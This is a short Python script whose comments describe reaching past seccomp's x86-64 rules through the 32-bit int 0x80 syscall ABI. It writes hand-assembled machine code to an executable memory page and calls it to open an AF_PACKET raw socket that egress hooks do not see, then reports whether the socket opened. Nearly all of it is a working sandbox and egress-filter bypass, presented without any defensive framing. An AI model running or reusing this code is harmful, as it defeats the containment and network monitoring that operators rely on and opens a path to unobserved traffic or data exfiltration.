# Reach past seccomp's x86-64 rules through the 32-bit syscall ABI (int 0x80),
# whose numbers differ: socket(AF_PACKET, SOCK_RAW, 0) is i386 syscall 359, a
# packet socket that no egress hook sees. The code runs from an executable page.
import ctypes
import mmap

CODE = bytes.fromhex(
    "53"              # push rbx (callee-saved)
    "b867010000"      # mov eax, 359 (socket, i386)
    "bb11000000"      # mov ebx, 17 (AF_PACKET)
    "b903000000"      # mov ecx, 3 (SOCK_RAW)
    "31d2"            # xor edx, edx
    "cd80"            # int 0x80
    "5b"              # pop rbx
    "c3")             # ret
page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
fd = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
print("OPENED" if fd >= 0 else f"refused {fd}", flush=True)
